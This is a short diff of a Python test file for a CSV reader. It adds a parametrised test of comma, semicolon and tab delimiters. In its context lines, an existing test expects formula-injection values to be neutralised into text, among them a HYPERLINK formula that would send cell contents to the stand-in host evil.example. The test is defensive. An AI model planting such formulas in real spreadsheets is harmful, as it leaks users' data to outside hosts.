@@ -53,3 +53,9 @@ def test_a_customers_formula_is_a_text(tmp_path: Path) -> None:
     read = pd.read_csv(tmp_path / "a.csv", dtype=str)
     assert read.columns.tolist() == ["'=evil"]
     assert read["'=evil"].tolist() == ['\'=HYPERLINK("https://evil.example/?x="&A1)', "'@sum", "'+49 30 12", "-1,250.5"]
+
+
+@pytest.mark.parametrize("sign", [",", ";", "\t"])
+def test_columns_are_held_apart_as_the_header_does(tmp_path: Path, sign: str) -> None:
+    (tmp_path / "a.csv").write_text(f'text{sign}label\n"Shares fall, profits; too"{sign}bad\n', encoding="utf-8")
+    assert read_table(tmp_path / "a.csv").to_dict("records") == [{"text": "Shares fall, profits; too", "label": "bad"}]
